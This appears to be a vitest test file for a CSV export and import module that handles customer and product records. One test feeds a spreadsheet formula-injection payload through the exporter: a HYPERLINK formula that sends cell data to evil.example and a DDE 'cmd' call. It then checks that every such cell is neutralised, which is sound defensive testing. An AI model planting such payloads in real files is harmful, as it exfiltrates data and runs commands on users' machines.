import Papa from "papaparse"
import { describe, expect, it } from "vitest"

import type { Customer } from "../customers/customer.schema"
import { generateCustomers, generateProducts, toStored } from "../demo/demo-data"
import { createCustomerImporter } from "./customer-import"
import { decodeCsvBytes } from "./decode"
import { csvField, exportCustomersCsv, exportProductsCsv, rejectedRowsCsv, toCsv } from "./export"
import { autoMapCustomerHeaders, autoMapProductHeaders, CUSTOMER_FIELDS } from "./headers"
import { parseCsv } from "./parse"
import { createProductImporter } from "./product-import"

const NOW = Date.UTC(2026, 10, 15)

/** What a CSV file can carry of a customer: everything but ids, dates, notes and address labels. */
function content(c: Customer) {
  return {
    code: c.code, company: c.company, siren: c.siren, vatNumber: c.vatNumber, country: c.country, language: c.language,
    creditLimitCents: c.creditLimitCents, paymentTermsDays: c.paymentTermsDays, salesRep: c.salesRep, tags: c.tags,
    addresses: c.addresses.slice(0, 1).map(({ line, postalCode, city, country }) => ({ line, postalCode, city, country })),
    contacts: c.contacts.map(({ firstName, lastName, role, phones, emails }) => ({ firstName, lastName, role, phones, emails }))
  }
}

function importCustomers(text: string) {
  const parsed = parseCsv(text)
  const auto = autoMapCustomerHeaders(parsed.headers)
  expect(auto.unmapped).toEqual([])
  const importer = createCustomerImporter({ mapping: auto.mapping, defaultCountry: "FR", now: NOW, newId: () => crypto.randomUUID(), columnCount: parsed.headers.length })
  importer.addRows(parsed.rows)
  return importer.finish()
}

describe("csv writing", () => {
  it("quotes values with separators, quotes, line breaks or edge spaces, RFC 4180 style", () => {
    expect(csvField("Dupont, Fils", ",")).toBe('"Dupont, Fils"')
    expect(csvField("Dupont, Fils", ";")).toBe('"Dupont, Fils"')
    expect(csvField('dit "urgent"', ",")).toBe('"dit ""urgent"""')
    expect(csvField("3 quai\nBât. B", ",")).toBe('"3 quai\nBât. B"')
    expect(csvField(" x", ",")).toBe('" x"')
    expect(csvField("Zoé", ",")).toBe("Zoé")
  })

  it("protects formulas from spreadsheets but leaves phone numbers and amounts alone", () => {
    expect(csvField("=HYPERLINK(\"http://x\")", ",")).toBe("\"'=HYPERLINK(\"\"http://x\"\")\"")
    expect(csvField("@SUM(A1)", ",")).toBe("'@SUM(A1)")
    expect(csvField("+33142685300", ",")).toBe("+33142685300")
    expect(csvField("-12.50", ",")).toBe("-12.50")
  })

  it("keeps a formula hidden after another separator in one cell, for a spreadsheet that splits the file on ; or on ,", () => {
    // French Excel splits a double-clicked .csv on ";", English Excel on ",": a cell must not open on either.
    const company = `Bistrot;=HYPERLINK("http://evil.example/?c="&B2,"Ouvrir"),=1+cmd|' /C calc'!A0`
    for (const written of [",", ";"] as const) {
      const file = exportCustomersCsv([{ ...toStored(generateCustomers({ count: 1, seed: 3 })[0]!), company, contacts: [] }], { delimiter: written })
      for (const read of [",", ";"]) {
        const cells = Papa.parse<string[]>(file.replace(/^\uFEFF/, ""), { delimiter: read }).data.flat()
        expect(cells.filter((c) => /^[=+@]/.test(c) || /^-\D/.test(c)), `written with "${written}", read on "${read}"`).toEqual([])
      }
      expect(importCustomers(file).customers[0]!.customer.company).toBe(company)
    }
  })

  it("starts with a BOM and ends lines with CRLF", () => {
    const text = toCsv(["a", "b"], [["1", "2"]])
    expect(text).toBe("\uFEFFa,b\r\n1,2\r\n")
    expect(toCsv(["a"], [], { bom: false, delimiter: ";" })).toBe("a\r\n")
  })

  it("encodes to UTF-8 bytes that Excel reads as UTF-8 and our decoder reads back", () => {
    const bytes = new TextEncoder().encode(toCsv(["société"], [["Cœur €"]]))
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(decodeCsvBytes(bytes)).toEqual({ text: "société\r\nCœur €\r\n", encoding: "utf-8" })
  })
})

describe("exportCustomersCsv", () => {
  it("writes the template headers and one row per contact", () => {
    const [customer] = generateCustomers({ count: 1, seed: 3 }).map(toStored)
    const parsed = parseCsv(exportCustomersCsv([customer!]))
    expect(parsed.headers).toEqual([...CUSTOMER_FIELDS])
    expect(parsed.rows).toHaveLength(customer!.contacts.length)
  })

  it("writes a customer without contacts as one row", () => {
    const [customer] = generateCustomers({ count: 1 }).map(toStored)
    expect(parseCsv(exportCustomersCsv([{ ...customer!, contacts: [] }])).rows).toHaveLength(1)
  })

  it("reads back, through the importer, as the customers it wrote", () => {
    const customers = generateCustomers({ count: 200, seed: 11 }).map(toStored)
    customers[0]!.addresses[0]!.line = "3 quai de la Loire\nBâtiment B, escalier \"C\""
    customers[1]!.company = "=Dupont, \"Fils\" & Cie"
    customers[2]!.contacts[0]!.emails.push("second@example.fr")
    customers[2]!.contacts[0]!.phones.push("+33142685300", "+442079460018")
    const r = importCustomers(exportCustomersCsv(customers))
    expect(r.rejected).toEqual([])
    expect(r.customers.map((c) => content(c.customer))).toEqual(customers.map(content))
  })

  it("reads back with semicolons too", () => {
    const customers = generateCustomers({ count: 20, seed: 5 }).map(toStored)
    const r = importCustomers(exportCustomersCsv(customers, { delimiter: ";" }))
    expect(r.customers.map((c) => content(c.customer))).toEqual(customers.map(content))
  })
})

describe("exportProductsCsv", () => {
  it("reads back as the products it wrote", () => {
    const products = generateProducts(NOW)
    const parsed = parseCsv(exportProductsCsv(products))
    const importer = createProductImporter({ mapping: autoMapProductHeaders(parsed.headers).mapping, now: NOW, newId: () => "x" })
    importer.addRows(parsed.rows)
    const r = importer.finish()
    expect(r.rejected).toEqual([])
    expect(r.products.map((p) => ({ ...p.product, id: "" }))).toEqual(products.map((p) => ({ ...p, id: "" })))
    expect(parsed.rows[5]!.cells).toEqual(["REF-1006", "Café en grains 1 kg", "Coffee beans 1 kg", "kg", "18.90", "5.5", "Café", "", ""])
    // The 0 % product's mentions, French and English, in the template's last two columns.
    const zero = products.find((p) => p.vatRateBp === 0)!
    expect(parsed.headers.slice(-2)).toEqual(["vat_exemption", "vat_exemption_en"])
    expect(parsed.rows.find((row) => row.cells[0] === zero.ref)!.cells.slice(-2)).toEqual([zero.vatExemption, zero.vatExemptionEn])
  })
})

describe("rejectedRowsCsv", () => {
  it("writes line, code and reason before the original row, under names no alias maps", () => {
    const text = rejectedRowsCsv(
      [{ line: 7, code: "invalid_email", reason: 'email "x@" is not an address', issues: [], cells: ["C-1", "Dupont, SA", "x@"] }],
      ["code", "company", "email"]
    )
    expect(text).toBe('\uFEFFimport_line,import_error,import_reason,code,company,email\r\n7,invalid_email,"email ""x@"" is not an address",C-1,"Dupont, SA",x@\r\n')
    const parsed = parseCsv(text)
    expect(autoMapCustomerHeaders(parsed.headers)).toMatchObject({ mapping: { code: 3, company: 4, email: 5 }, unmapped: ["import_line", "import_error", "import_reason"] })
  })
})
